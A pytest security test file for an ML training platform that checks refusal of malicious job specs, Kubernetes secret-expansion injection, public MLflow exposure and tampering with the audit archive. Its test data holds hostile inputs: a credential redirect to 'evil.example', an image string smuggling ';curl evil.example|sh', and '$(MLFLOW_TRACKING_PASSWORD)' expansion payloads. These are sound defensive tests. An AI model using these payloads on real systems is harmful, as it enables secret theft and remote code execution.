"""Attacks on a team's data, credentials and names, from the attacker's seat (issue 18 items
3, 6, 7, 8, 10; review security-3 C2, H5, M3, M4, M7, M8, M9). One row per attack: what
team A (or a job spec author of team A) tries, and the control that refuses it, asserted on
the rendered objects, the recorded plan or the real program that enforces it.

The kubelet's `$(VAR)` rule, from the Kubernetes API (core/v1 Container.args, the same for
command and env values): "Variable references $(VAR_NAME) are expanded using the container's
environment. If a variable cannot be resolved, the reference in the input string will be
unchanged. Double $$ are reduced to a single $, which allows for escaping the $(VAR_NAME)
syntax: i.e. "$$(VAR_NAME)" will produce the string literal "$(VAR_NAME)". Escaped references
will never be expanded, regardless of whether the variable exists or not."
`kubelet_expand` below is a line-by-line port of that expansion
(kubernetes third_party/forked/golang/expansion/expand.go: Expand, tryReadVariableName).
"""
from __future__ import annotations

import copy
from pathlib import Path
from typing import Callable

import pytest
import yaml

from workloads.jobspec import JobSpecError, parse_image_reference, parse_job_spec
from workloads.trainingjob import render_pytorchjob, resolve

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "jobs" / "gpt2-pretrain.yaml"
SECRET_VALUE = "s3cr3t-team-password"
ECR = "111122223333.dkr.ecr.us-west-2.amazonaws.com/mlp-prod/trainer"


def kubelet_expand(value: str, env: dict[str, str]) -> str:
    out, checkpoint, cursor = [], 0, 0
    while cursor < len(value):
        if value[cursor] == "$" and cursor + 1 < len(value):
            out.append(value[checkpoint:cursor])
            rest = value[cursor + 1:]
            if rest[0] == "$":  # escaped operator
                read, is_var, advance = "$", False, 1
            elif rest[0] == "(":
                close = rest.find(")", 1)
                if close >= 0:
                    read, is_var, advance = rest[1:close], True, close + 1
                else:  # incomplete reference
                    read, is_var, advance = "$(", False, 1
            else:
                read, is_var, advance = "$" + rest[0], False, 1
            out.append((env[read] if read in env else f"$({read})") if is_var else read)
            cursor += advance
            checkpoint = cursor + 1
        cursor += 1
    return "".join(out) + value[checkpoint:]


def test_the_expansion_port_agrees_with_the_documented_rule():
    env = {"VAR": "x"}
    assert kubelet_expand("$(VAR)", env) == "x"
    assert kubelet_expand("$$(VAR)", env) == "$(VAR)"
    assert kubelet_expand("$(MISSING)", env) == "$(MISSING)"
    assert kubelet_expand("a$b$(", env) == "a$b$("


@pytest.fixture(scope="module")
def prod_facts(prod_plan):
    from jobs.facts import facts_from_plan

    return facts_from_plan(prod_plan)


@pytest.fixture(scope="module")
def example():
    return yaml.safe_load(EXAMPLE.read_text())


def with_(example, **changes) -> dict:
    raw = copy.deepcopy(example)
    for key, value in changes.items():
        if key == "overrides":
            raw["trainer"]["overrides"] = raw["trainer"]["overrides"] + value
        elif key == "config":
            raw["trainer"]["config"] = value
        else:
            raw[key] = value
    return raw


def refusal(raw, facts) -> str:
    with pytest.raises(JobSpecError) as error:
        resolve(parse_job_spec(raw), facts)
    return str(error.value)


# -- item 6: a job spec cannot redirect credentials or leave the team's space ----------------------
# (attack, the spec change, the field the refusal names, a phrase of the refusal)
REFUSED_SPECS = [
    ("send the team's MLflow login to an attacker's server", {"overrides": ["tracking.uri=https://evil.example"]},
     "trainer.overrides", "set by the platform"),
    ("log into another team's experiment through an override", {"overrides": ["tracking.experiment=team-b/gpt2"]},
     "trainer.overrides", "set by the platform"),
    ("log into another team's experiment", {"experiment": "team-applied/gpt2"}, "experiment", "not the team's prefix"),
    ("an experiment name carrying a variable reference", {"experiment": "$(MLFLOW_TRACKING_PASSWORD)"},
     "experiment", "not an experiment name"),
    ("register a model under another team's name", {"overrides": ["export.registered_model_name=team-applied.gpt2"]},
     "trainer.overrides[export.registered_model_name]", "not under the team's model prefix"),
    ("squat a global model name", {"overrides": ["export.registered_model_name=gpt2"]},
     "trainer.overrides[export.registered_model_name]", "not under the team's model prefix"),
    ("read another team's checkpoints as the dataset", {"dataset": "/fsx/checkpoints/team-applied/gpt2"},
     "dataset", "outside the team's readable space"),
    ("climb out of the datasets with ..", {"dataset": "/fsx/datasets/../checkpoints/team-applied"},
     "dataset", "not a path on the FSx mount"),
    ("write checkpoints into another team's directory", {"checkpointDir": "/fsx/checkpoints/team-applied/x"},
     "checkpointDir", "outside /fsx/checkpoints/team-foundation-models/"),
    ("export into another team's directory", {"overrides": ["export.dir=/fsx/checkpoints/team-applied/export"]},
     "trainer.overrides[export.dir]", "outside the team's own space"),
    ("resume from another team's checkpoint", {"overrides": ["checkpoint.resume=/fsx/checkpoints/team-applied/j/step-000100"]},
     "trainer.overrides[checkpoint.resume]", "outside the team's own space"),
    ("load a model from another team's directory", {"overrides": ["model.hf_path=/fsx/pipelines/team-applied/hf"]},
     "trainer.overrides[model.hf_path]", "outside the team's own space"),
    ("an image with an extra argument", {"image": f"{ECR}:1.0.0 --privileged"}, "image", "not an image reference"),
    ("an image with a shell command", {"image": f"{ECR}:1.0.0;curl evil.example|sh"}, "image", "not an image reference"),
    ("an image from a variable", {"image": "$(AWS_CONTAINER_CREDENTIALS_FULL_URI)/x:1"}, "image", "not an image reference"),
    ("an image with an uppercase repository", {"image": "registry.example.com/Trainer:1"}, "image", "not an image reference"),
    ("an image digest that is not one", {"image": f"{ECR}@sha256:abc"}, "image", "not an image reference"),
    ("an unpinned image", {"image": ECR}, "image", "has no tag or digest"),
    ("a moving tag", {"image": f"{ECR}:latest"}, "image", ":latest"),
]


@pytest.mark.parametrize("attack, change, field, phrase", REFUSED_SPECS, ids=[r[0] for r in REFUSED_SPECS])
def test_a_malicious_job_spec_is_refused_naming_the_field(prod_facts, example, attack, change, field, phrase):
    message = refusal(with_(example, **change), prod_facts)
    assert field in message and phrase in message, message
    assert "Traceback" not in message


# User strings that reach args or env: after the kubelet's expansion, each is exactly what the
# user wrote, and the Secret's value appears nowhere.
EXPANSION_ATTACKS = [
    ("a trainer override reads the password", {"overrides": ["optimizer.lr=$(MLFLOW_TRACKING_PASSWORD)"]}),
    ("an already-escaped reference", {"overrides": ["tracking.run_name=$$(MLFLOW_TRACKING_PASSWORD)"]}),
    ("the run name reads the password", {"runName": "$(MLFLOW_TRACKING_PASSWORD)"}),
    ("the config path reads the password", {"config": "trainer/configs/$(MLFLOW_TRACKING_PASSWORD).yaml"}),
    ("the dataset path reads the password", {"dataset": "/fsx/datasets/$(MLFLOW_TRACKING_PASSWORD)/v1"}),
    ("the checkpoint path reads the password",
     {"checkpointDir": "/fsx/checkpoints/team-foundation-models/$(MLFLOW_TRACKING_PASSWORD)"}),
]


@pytest.mark.parametrize("attack, change", EXPANSION_ATTACKS, ids=[r[0] for r in EXPANSION_ATTACKS])
def test_no_user_string_expands_a_secret_in_the_container(prod_facts, example, attack, change):
    raw = with_(example, **change)
    manifest = render_pytorchjob(resolve(parse_job_spec(raw), prod_facts))
    container = manifest["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]
    # What the container would see: Secret-backed variables hold the secret.
    env = {e["name"]: SECRET_VALUE for e in container["env"] if "valueFrom" in e}
    for e in container["env"]:
        if "value" in e:
            env[e["name"]] = kubelet_expand(e["value"], env)
    args = [kubelet_expand(a, env) for a in container["args"]]
    seen = "\n".join([*args, *(v for k, v in env.items() if k not in {e["name"] for e in container["env"]
                                                                     if "valueFrom" in e})])
    assert SECRET_VALUE not in seen, attack
    # ...and the user's text arrives exactly as written.
    written = [v for v in change.values()][0]
    written = written[0] if isinstance(written, list) else written
    assert written.split("=", 1)[-1] in seen


def test_the_unescaped_render_would_leak_the_secret(prod_facts, example, monkeypatch):
    """The attack is real: with the escaping removed, the same spec puts the password in args."""
    import workloads.trainingjob as trainingjob

    monkeypatch.setattr(trainingjob, "k8s_literal", lambda value: value)
    raw = with_(example, runName="$(MLFLOW_TRACKING_PASSWORD)")
    container = render_pytorchjob(resolve(parse_job_spec(raw), prod_facts))["spec"]["pytorchReplicaSpecs"]["Master"][
        "template"]["spec"]["containers"][0]
    env = {e["name"]: SECRET_VALUE for e in container["env"] if "valueFrom" in e}
    assert any(SECRET_VALUE in kubelet_expand(a, env) for a in container["args"])


@pytest.mark.parametrize("reference, parts", [
    (f"{ECR}:1.0.0", ("111122223333.dkr.ecr.us-west-2.amazonaws.com", "mlp-prod/trainer", "1.0.0", None)),
    (f"{ECR}@sha256:" + "a" * 64, ("111122223333.dkr.ecr.us-west-2.amazonaws.com", "mlp-prod/trainer", None,
                                     "sha256:" + "a" * 64)),
    ("localhost:5000/trainer:dev", ("localhost:5000", "trainer", "dev", None)),
    ("library/busybox:1.37.0", (None, "library/busybox", "1.37.0", None)),
])
def test_an_image_reference_is_parsed_into_its_parts(reference, parts):
    assert tuple(parse_image_reference(reference)) == parts


def test_the_trainer_sends_the_team_login_only_to_the_platforms_server(tmp_path):
    """Defence in depth inside the pod, where the renderer's checks no longer apply: a config
    file in the image that points tracking elsewhere is overruled by the Secret's URI, and a
    command-line override that does is refused while the team's login is in the environment."""
    from trainer.config import ConfigError, build_config

    config = tmp_path / "c.yaml"
    config.write_text("tracking:\n  uri: https://evil.example\n")
    env = {"MLFLOW_TRACKING_URI": "https://mlflow.platform.internal", "MLFLOW_TRACKING_USERNAME": "team-a",
           "MLFLOW_TRACKING_PASSWORD": SECRET_VALUE}
    assert build_config(str(config), [], environ=env).tracking.uri == env["MLFLOW_TRACKING_URI"]
    with pytest.raises(ConfigError, match="goes only to the platform's tracking server"):
        build_config(None, ["tracking.uri=https://evil.example"], environ=env)
    assert build_config(None, [], environ=env).tracking.uri == env["MLFLOW_TRACKING_URI"]


# -- item 8: the prod MLflow login is not on the internet ---------------------------------------
LOAD_BALANCER = "aws:lb/loadBalancer:LoadBalancer"
LISTENER = "aws:lb/listener:Listener"
SG_RULE = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"
RECORD = "aws:route53/record:Record"
SUBNET = "aws:ec2/subnet:Subnet"


def _mlflow_load_balancers(plan):
    return [lb for lb in plan.recording.by_type(LOAD_BALANCER) if "mlflow" in lb.name or "tracking" in lb.name]


def test_the_prod_mlflow_login_cannot_be_reached_from_the_internet(prod_plan):
    """Attack: guess a team's (or the admin's) basic-auth password from anywhere on the internet.
    Control (prod): the only MLflow load balancers are internal (Elastic Load Balancing guide: "the
    nodes of an internal load balancer have only private IP addresses ... can only route requests
    from clients with access to the VPC"), in private subnets, with no public DNS record, and their
    listeners forward HTTPS or redirect HTTP to it, nothing else."""
    lbs = _mlflow_load_balancers(prod_plan)
    assert lbs, "no MLflow load balancer recorded"
    public_subnets = {s.id for s in prod_plan.recording.by_type(SUBNET) if s.inputs.get("mapPublicIpOnLaunch")}
    for lb in lbs:
        assert lb.inputs.get("internal") is True, f"{lb.name} is internet-facing"
        assert not set(lb.inputs.get("subnets") or []) & public_subnets, f"{lb.name} sits in a public subnet"
    arns = {lb.outputs.get("arn") for lb in lbs}
    listeners = [l for l in prod_plan.recording.by_type(LISTENER) if l.inputs.get("loadBalancerArn") in arns]
    assert {l.inputs["port"] for l in listeners} == {80, 443}
    for listener in listeners:
        (action,) = listener.inputs["defaultActions"]
        if listener.inputs["port"] == 443:
            assert listener.inputs["protocol"] == "HTTPS" and action["type"] == "forward"
        else:
            assert action["type"] == "redirect" and action["redirect"]["protocol"] == "HTTPS"
    dns_names = {lb.outputs.get("dnsName") for lb in lbs}
    public_records = [r for r in prod_plan.recording.by_type(RECORD)
                      if any(a.get("name") in dns_names for a in r.inputs.get("aliases") or [])
                      and "private" not in r.name]
    assert not public_records, [r.name for r in public_records]


def test_prod_refuses_an_internet_facing_mlflow_endpoint():
    from infra.config import ConfigError, load_platform_config
    from tests.conftest import stack_config

    raw = stack_config("prod")
    raw["tracking"]["loadBalancerScheme"] = "internet-facing"
    with pytest.raises(ConfigError) as info:
        load_platform_config(raw)
    (problem,) = [p for p in info.value.problems if p.path == "tracking.loadBalancerScheme"]
    assert "basic-auth login" in problem.message and "VPN" in problem.fix


# -- item 10: audit that an attacker cannot erase --------------------------------------------------
TRAIL = "aws:cloudtrail/trail:Trail"
KEY = "aws:kms/key:Key"
BUCKET = "aws:s3/bucket:Bucket"
OBJECT_LOCK = "aws:s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration"
LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup"


def _account(plan, resource) -> str:
    from infra.plan import account_of

    return account_of(resource, plan.recording, plan.config)


def _selected_prefixes(trail) -> list[str]:
    return [p for selector in trail.inputs.get("advancedEventSelectors") or [] for f in selector["fieldSelectors"]
            if f["field"] == "resources.ARN" for p in f.get("startsWiths", [])]


@pytest.fixture(scope="module", params=["dev", "prod"])
def any_plan(request):
    from infra.plan import build_plan

    return build_plan(request.param, ROOT)


def test_cross_tenant_object_access_is_recorded_by_a_data_event_trail(any_plan):
    """Attack: read or overwrite another team's checkpoints or datasets in S3 and leave no trace
    (management events do not record object calls). Control: the workload trail selects S3
    object events (CloudTrail User Guide, "Logging data events": resources.type AWS::S3::Object,
    resources.ARN StartsWith) of exactly the recorded datasets and checkpoints buckets, and keeps
    management events in their own selector (advanced selectors log only what they select)."""
    trails = {_account(any_plan, t): t for t in any_plan.recording.by_type(TRAIL)}
    workload = trails["workload"]
    prefixes = _selected_prefixes(workload)
    tenant = [b for b in any_plan.recording.by_type(BUCKET) if "datasets-datasets" in b.name or "checkpoints" in b.name]
    assert len(tenant) == 2
    for bucket in tenant:
        object_arn = f"arn:aws:s3:::{bucket.id}/team-a/ckpt/step-000100/.metadata"
        assert any(object_arn.startswith(p) for p in prefixes), (bucket.id, prefixes)
    others = [b for b in any_plan.recording.by_type(BUCKET) if b not in tenant]
    assert not [b.id for b in others if any(f"arn:aws:s3:::{b.id}/x".startswith(p) for p in prefixes)]
    categories = [f["equals"] for s in workload.inputs["advancedEventSelectors"] for f in s["fieldSelectors"]
                  if f["field"] == "eventCategory"]
    assert ["Management"] in categories and ["Data"] in categories


def test_changes_to_the_archive_are_recorded_in_the_logging_account(any_plan):
    """Attack: an admin of the logging account deletes archived logs or edits the archive's
    policy or key unseen. Control: the logging account has its own trail into the archive, and it
    records object deletions and retention changes on the archive (its own deliveries excepted,
    so that delivering is not itself an event)."""
    trails = {_account(any_plan, t): t for t in any_plan.recording.by_type(TRAIL)}
    logging = trails.get("logging")
    assert logging is not None, "no trail in the logging account"
    assert logging.inputs["isMultiRegionTrail"] and logging.inputs["enableLogFileValidation"]
    (archive,) = [b for b in any_plan.recording.by_type(BUCKET) if "log-archive-logs" in b.name]
    assert any(f"arn:aws:s3:::{archive.id}/cloudtrail/x".startswith(p) for p in _selected_prefixes(logging))
    selector = next(s for s in logging.inputs["advancedEventSelectors"]
                    if any(f["field"] == "resources.ARN" for f in s["fieldSelectors"]))
    fields = {f["field"]: f for f in selector["fieldSelectors"]}
    assert "DeleteObject" not in fields["eventName"]["notEquals"] and "PutObject" in fields["eventName"]["notEquals"]


def test_only_the_break_glass_role_can_destroy_the_archive_key(any_plan):
    """Attack: an AdministratorAccess principal of the logging account schedules the archive
    key's deletion (after the waiting period every archived log is unreadable, whatever Object
    Lock kept). Control: the key policy denies ScheduleKeyDeletion and DisableKey to every
    principal but the break-glass role; an explicit deny beats the root statement's allow
    (KMS Developer Guide, "Key policies")."""
    import json

    (key,) = [k for k in any_plan.recording.by_type(KEY) if "log-archive" in k.name]
    policy = json.loads(key.inputs["policy"])
    account = any_plan.config.accounts.logging.id
    break_glass = f"arn:aws:iam::{account}:role/{any_plan.config.log_archive.break_glass_role_name}"
    deploy = f"arn:aws:iam::{account}:role/mlp-pulumi-deploy"

    def denied(principal_arn: str, action: str) -> bool:
        for s in policy["Statement"]:
            if s["Effect"] != "Deny" or action not in s["Action"]:
                continue
            not_equals = s.get("Condition", {}).get("ArnNotEquals", {}).get("aws:PrincipalArn")
            if not_equals is None or principal_arn not in (not_equals if isinstance(not_equals, list) else [not_equals]):
                return True
        return False

    for action in ("kms:ScheduleKeyDeletion", "kms:DisableKey"):
        assert denied(deploy, action) and denied(f"arn:aws:iam::{account}:root", action)
        assert not denied(break_glass, action)


def test_prod_archive_locks_are_compliance_mode(prod_plan):
    """Attack: a principal with s3:BypassGovernanceRetention deletes locked log versions. Control
    (prod): COMPLIANCE mode, which no user, root included, can shorten or remove (S3 User Guide,
    "Object Lock": "In compliance mode, a protected object version can't be overwritten or deleted
    by any user, including the root user in your AWS account")."""
    (lock,) = prod_plan.recording.by_type(OBJECT_LOCK)
    assert lock.inputs["rule"]["defaultRetention"]["mode"] == "COMPLIANCE"
    assert lock.inputs["rule"]["defaultRetention"]["days"] >= 365


def test_service_written_log_groups_exist_first_with_the_logs_key_and_a_retention(prod_plan):
    """Attack surface: logs the services would create on their own (AWS-owned key, kept forever):
    the Aurora postgresql export and the rotation Lambda. Control: the platform creates them first,
    with the logs key and a retention, and the database and the rotation stack wait for them."""
    groups = {g.inputs["name"]: g for g in prod_plan.recording.by_type(LOG_GROUP)}
    (cluster,) = prod_plan.recording.by_type("aws:rds/cluster:Cluster")
    expected = [f"/aws/rds/cluster/{cluster.inputs['clusterIdentifier']}/postgresql",
                f"/aws/lambda/{next(s for s in prod_plan.recording.by_type('aws:serverlessrepository/cloudFormationStack:CloudFormationStack')).inputs['parameters']['functionName']}"]
    for name in expected:
        assert name in groups, f"{name} would be created by the service"
        assert groups[name].inputs.get("kmsKeyId") and groups[name].inputs.get("retentionInDays")
        assert groups[name].urn in cluster.dependencies or "lambda" in name


# -- the review's rows for these items, and where each attack is refused ----------------------------
# (review security-3 row or finding, the attack, the test that shows it refused). Attacks that need
# a real trainer run or a real MLflow server live next to those fixtures.
ATTACK_ROWS = [
    ("C2", "plant a checkpoint whose .metadata runs code as the victim at its next restart",
     "tests/trainer/test_checkpoint_trust.py::test_a_planted_newer_step_is_refused_and_its_pickle_never_runs"),
    ("C2", "swap .metadata inside the victim's own newest step",
     "tests/trainer/test_checkpoint_trust.py::test_metadata_swapped_inside_the_victims_own_newest_step_is_refused"),
    ("C2", "a step directory written by another uid",
     "tests/trainer/test_checkpoint_trust.py::test_a_step_directory_owned_by_another_uid_is_refused"),
    ("C2", "an RNG file that is a code-running pickle",
     "tests/trainer/test_checkpoint_trust.py::test_an_rng_file_that_is_a_pickle_is_never_unpickled"),
    ("C2", "the restore drill run on a planted checkpoint",
     "tests/trainer/test_checkpoint_trust.py::test_the_restore_drill_refuses_a_planted_checkpoint_before_unpickling"),
    ("issue 18 item 6", "a job spec that redirects or reveals credentials or leaves the team's space",
     "tests/security/test_attacks_data.py::test_a_malicious_job_spec_is_refused_naming_the_field"),
    ("issue 18 item 6", "a job spec string that makes the kubelet expand a Secret",
     "tests/security/test_attacks_data.py::test_no_user_string_expands_a_secret_in_the_container"),
    ("row 8 / H5", "read another team's runs, artifacts and models",
     "tests/integration/test_mlflow_server.py::test_a_team_cannot_read_another_teams_run_artifact_or_model"),
    ("row 10 / H5", "squat another team's experiment or model names",
     "tests/integration/test_mlflow_server.py::test_a_team_cannot_squat_another_teams_names"),
    ("H5", "grant oneself into another team's experiment",
     "tests/integration/test_mlflow_server.py::test_sharing_is_an_explicit_grant_by_the_owner"),
    ("M8", "guess the MLflow login from the internet",
     "tests/security/test_attacks_data.py::test_the_prod_mlflow_login_cannot_be_reached_from_the_internet"),
    ("M3", "tamper with tenant data or the archive unrecorded",
     "tests/security/test_attacks_data.py::test_cross_tenant_object_access_is_recorded_by_a_data_event_trail"),
    ("M3", "delete the archive key",
     "tests/security/test_attacks_data.py::test_only_the_break_glass_role_can_destroy_the_archive_key"),
    ("M3", "bypass the archive's Object Lock",
     "tests/security/test_attacks_data.py::test_prod_archive_locks_are_compliance_mode"),
    ("M4", "read the database password from the PostgreSQL log",
     "tests/integration/test_mlflow_server.py::test_the_bootstrap_never_sends_the_database_password"),
]


def test_every_attack_row_names_a_test_that_exists():
    import ast

    for row, attack, node in ATTACK_ROWS:
        path, name = node.split("::")
        tree = ast.parse((ROOT / path).read_text())
        assert name in {n.name for n in tree.body if isinstance(n, ast.FunctionDef)}, (row, attack, node)
